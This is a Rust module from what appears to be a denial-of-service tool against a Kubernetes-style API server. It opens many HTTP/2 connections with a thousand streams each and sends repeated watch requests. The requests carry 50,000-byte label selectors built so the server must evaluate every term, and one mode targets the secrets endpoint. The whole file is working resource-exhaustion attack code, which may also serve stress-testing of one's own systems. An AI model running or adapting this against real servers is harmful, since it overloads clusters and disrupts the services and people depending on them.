//! Many watches on few HTTP/2 connections.

use std::fmt::Write;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use anyhow::{Result, ensure};
use http_body_util::{BodyExt, Empty};
use hyper::Method;
use hyper::client::conn::http2::Builder;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::task::JoinSet;

use super::Attack;
use super::{AttackState, BACK_AFTER, OpenConnection, count};
use crate::http2::GetSender;

const STREAMS: usize = 1_000;
/// Length of a selector, bytes.
const SELECTOR_LEN: usize = 50_000;
/// A receive window for all streams of a connection.
const WINDOW_LEN: u32 = 1 << 30;

pub(super) fn begin(scene: &Arc<AttackState>, clients: &mut JoinSet<()>) {
    let all = scene.flags.clients;
    for first in (0..all).step_by(STREAMS) {
        let scene = scene.clone();
        clients.spawn(async move {
            let numbers = first..(first + STREAMS).min(all);
            let watches: Vec<_> = numbers.map(Watch::new).map(Arc::new).collect();
            loop {
                if connection(&scene, &watches).await.is_err() {
                    let refused = &scene.counts.refused;
                    refused.fetch_add(watches.len() as u64, Ordering::Relaxed);
                    watches.iter().for_each(|watch| watch.begin(&scene));
                }
                tokio::time::sleep(BACK_AFTER).await;
            }
        });
    }
}

/// One watch, started again and again.
#[derive(Debug)]
struct Watch {
    number: usize,
    has_started: AtomicBool,
}

impl Watch {
    const fn new(number: usize) -> Self {
        Self {
            number,
            has_started: AtomicBool::new(false),
        }
    }

    /// Counts the watch once it has a response or was refused for the first time.
    fn begin(&self, scene: &AttackState) {
        if !self.has_started.swap(true, Ordering::Relaxed) {
            count(&scene.counts.started);
        }
    }
}

/// One connection, until the server ends it; an error if it could not be made.
async fn connection(scene: &Arc<AttackState>, watches: &[Arc<Watch>]) -> Result<()> {
    let mut streams = JoinSet::new();
    let sender = connect(scene, &mut streams).await?;
    let _open = OpenConnection::of(scene);
    for watch in watches {
        let (scene, sender, watch) = (scene.clone(), sender.clone(), watch.clone());
        streams.spawn(async move {
            while !sender.is_closed() {
                scene.pace.turn().await;
                if watch_once(&scene, sender.clone(), &watch).await.is_err() {
                    count(&scene.counts.refused);
                }
                watch.begin(&scene);
                tokio::time::sleep(BACK_AFTER).await;
            }
        });
    }
    drop(sender);
    while streams.join_next().await.is_some() {}
    count(&scene.counts.closed);
    Ok(())
}

async fn connect(scene: &AttackState, streams: &mut JoinSet<()>) -> Result<GetSender> {
    let stream = scene
        .flags
        .target
        .connect_from(scene.flags.source, "h2")
        .await?;
    let (sender, connection) = Builder::new(TokioExecutor::new())
        .initial_connection_window_size(WINDOW_LEN)
        .handshake(TokioIo::new(stream))
        .await?;
    streams.spawn(async move { drop(connection.await) });
    Ok(sender)
}

/// One watch, whose events are dropped; an error if it was refused.
async fn watch_once(scene: &AttackState, mut sender: GetSender, watch: &Watch) -> Result<()> {
    let path = match scene.flags.attack {
        Attack::Forwarded => "/api/v1/secrets?watch=1".to_owned(),
        _ => format!(
            "/api/v1/pods?watch=1&labelSelector={}",
            selector(watch.number)
        ),
    };
    let request = scene
        .flags
        .target
        .request(Method::GET, &scene.flags.target.url(&path));
    let request = request.body(Empty::new())?;
    let response = sender.send_request(request).await?;
    ensure!(response.status() == 200, "turned away");
    count(&scene.counts.done);
    watch.begin(scene);
    let mut body = response.into_body();
    while let Some(Ok(_)) = body.frame().await {}
    Ok(())
}

/// Terms that no pod contradicts, so that the server evaluates all of them; different for each watch.
fn selector(number: usize) -> String {
    let mut text = format!("!a{number}");
    for term in 0.. {
        if text.len() >= SELECTOR_LEN {
            break;
        }
        let _ = write!(text, ",!b{term:x}");
    }
    text
}
